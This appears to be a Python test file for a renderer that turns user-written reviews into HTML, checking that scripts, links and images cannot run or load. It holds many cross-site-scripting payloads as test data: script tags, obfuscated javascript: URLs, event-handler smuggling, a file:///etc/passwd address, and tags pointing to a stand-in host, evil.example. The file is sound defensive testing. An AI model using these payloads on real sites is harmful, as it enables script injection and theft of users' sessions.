"""Whoever writes a review, nothing in it can run, load or pretend in a reader's browser."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.core.prose import Parts

RAW_HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<p onclick=alert(1)>hello</p>",
    "<a href=javascript:alert(1)>hello</a>",
    "<form action=https://evil.example><input></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "<!-- hidden -->",
    "<![CDATA[hidden]]>",
    "<?php hidden ?>",
    "<!DOCTYPE html>",
    "</p></div></body>",
    "<b>bold</b> and <div>block",
    "<",
    "<b",
    "a < b > c",
]


@pytest.mark.parametrize("raw", RAW_HTML)
def test_raw_html_is_shown_as_the_text_it_is(raw):
    assert Parts(raw).text.strip() == raw
    assert Parts(f"before\n\n{raw}\n\nafter").text.split("\n")[1] == raw
    assert set(Parts(f"- *{raw}*\n").tags) <= {"p", "ul", "li", "em"}


@pytest.mark.parametrize(
    ("escaped", "text"),
    [
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
        ("&#60;script&#62;", "<script>"),
        ("&#x3C;script&#x3E;", "<script>"),
        (r"\<script\>", "<script>"),
        ("`<script>`", "<script>"),
        ("``<script>`</script>``", "<script>`</script>"),
    ],
)
def test_html_in_disguise_stays_text(escaped, text):
    assert Parts(escaped).text.strip() == text


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#0000106avascript:alert(1)",
        r"javascript\:alert(1)",
        "javascript://example.org/%0Aalert(1)",
        "<javascript:alert(1)>",
        "<java\tscript:alert(1)>",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "java\nscript:alert(1)",
        "java\rscript:alert(1)",
        "&#1;javascript:alert(1)",
        "\x01javascript:alert(1)",
        "\u00a0javascript:alert(1)",
        "java\x00script:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "DATA:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "data:image/png;base64,AAAA",
        "file:///etc/passwd",
        "blob:https://example.org/1",
        "ftp://example.org",
        "feed:javascript:alert(1)",
        "view-source:javascript:alert(1)",
        "http://[",
    ],
)
def test_a_link_leads_to_the_web_or_nowhere(address):
    for markdown in (f"[label]({address})", f"[label]({address} 'title')", f"*[label]({address})*"):
        assert "label" in Parts(markdown).text  # Parts fails on any address that a browser would not take to the web


@pytest.mark.parametrize(
    "picture",
    [
        "![label](https://tracker.example/pixel.png)",
        "![label](//tracker.example/pixel.png)",
        "![label](data:image/png;base64,AAAA)",
        "[![label](https://tracker.example/pixel.png)](https://example.org)",
        "![label][pixel]\n\n[pixel]: https://tracker.example/pixel.png",
        '<img alt="label" src="https://tracker.example/pixel.png">',
    ],
)
def test_a_picture_is_never_loaded(picture):
    parts = Parts(picture)

    assert "img" not in parts.tags
    assert "label" in parts.text


@pytest.mark.parametrize("bare", ["https://example.org", "<https://example.org>", "www.example.org", "<a@example.org>"])
def test_a_bare_address_is_text_and_no_link(bare):
    parts = Parts(bare)

    assert parts.text.strip() == bare
    assert not parts.links


@pytest.mark.parametrize(
    "markdown",
    [
        '[label](https://example.org"onmouseover="alert(1))',
        "[label](https://example.org'onmouseover='alert(1))",
        "[label](https://example.org \"\" onmouseover=alert(1) x='')",
        '[label](https://example.org "\\" onmouseover=\\"alert(1)")',
        '[label](https://example.org "&quot; onmouseover=&quot;alert(1)")',
        '[" onmouseover="alert(1)](https://example.org)',
        "[label](https://example.org){onmouseover=alert(1)}",
    ],
)
def test_an_event_handler_cannot_be_smuggled_into_a_link(markdown):
    parts = Parts(markdown)  # which fails on any attribute but href, rel and title

    assert len(parts.links) <= 1
    assert "onmouseover" in parts.text + str(parts.links)


@pytest.mark.parametrize(
    "unclosed",
    ["*a", "**a", "***a", "`a", "[a", "[a](", "[a](https://example.org", "**a *b", "*a **b* c**", "a*", "- *a\n- b*"],
)
def test_what_is_left_open_ends_with_the_review(unclosed):
    assert "a" in Parts(unclosed).text  # Parts fails on tags that are left open or close out of order


@pytest.mark.parametrize("character", [chr(code) for code in (*range(1, 9), 11, 12, *range(14, 32), 127, 0x202E)])
def test_a_control_character_takes_nothing_of_the_text_away(character):
    text = Parts(f"*before*{character}after <b>").text

    assert text.startswith("before")
    assert text.strip().endswith("after <b>")


def test_nul_becomes_the_sign_for_an_unknown_character():
    assert Parts("a\x00b").text.strip() == "a\ufffdb"


WORDS = [
    "javascript:",
    "data:",
    "https://a.example",
    "<script>",
    "<!--",
    "-->",
    "<a href=",
    "onload=",
    "&#",
    "&lt;",
    "word",
]
MARKUP = st.sampled_from([*"*_`[]()<>!#&;:\"'\\/ \n\t-+1.é\x00\u202e", "](", "![", "</", "- ", "1. ", "\n\n", *WORDS])


@given(st.lists(MARKUP | st.text(max_size=5), max_size=40).map("".join))
def test_nothing_but_the_few_allowed_tags_and_attributes_ever_comes_out(markdown):
    Parts(markdown)
